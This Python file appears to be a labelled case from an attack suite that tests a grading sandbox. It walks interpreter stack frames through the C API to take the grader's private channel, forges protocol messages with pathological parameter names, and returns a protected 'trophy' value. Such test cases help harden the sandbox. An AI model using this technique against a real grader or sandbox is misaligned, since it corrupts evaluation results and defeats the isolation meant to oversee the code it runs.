# attack: builds a module whose parameters' names nest a thousand modules | class: forging | canary: bytes | dud: plain pytest has no wire
import ctypes
import sys

import msgspec

from grader.sandbox.wire.messages import Loaded
from grader.sandbox.wire.packing import Packing


def answer(make):
    """Answer every later request with `make(channel, request)`."""
    # Use the C API: the attributes of frames lead to nothing.
    frames = ctypes.pythonapi
    frames.PyFrame_GetBack.restype = frames.PyFrame_GetLocals.restype = ctypes.py_object
    call = sys._getframe()
    while call.f_code.co_name != "serve":
        call = frames.PyFrame_GetBack(ctypes.py_object(call))
    channel = frames.PyFrame_GetLocals(ctypes.py_object(call))["channel"]
    channel.send(Loaded(), Packing(), None)
    while True:
        request, unpacking = channel.receive_request()
        make(channel, request)

import struct


def raw(channel, structure, blob=b""):
    structure = msgspec.msgpack.encode(structure)
    channel._socket.sendall(channel.sealed(structure, blob))


def extension(code, value):
    return msgspec.msgpack.Ext(code, msgspec.msgpack.encode(value))


blob = struct.pack("<3f", 1, 1, 1)
names = [".".join("a" * 5000), "", "..", "training", "_parameters.x", "forward", "a" * 9000]
count = iter(range(10**6))


def make(channel, request):
    if type(request).__name__ == "Build":
        parameters = {names[0]: extension(1, ["float32", [3], 12])}
        state = {"parameters": parameters, "buffers": {}, "saved": names, "trainable": names}
        raw(channel, {"type": "built", "handle": 0, **state, "training": True}, blob)
    else:
        raw(channel, {"type": "returned", "value": target.trophy})


answer(make)
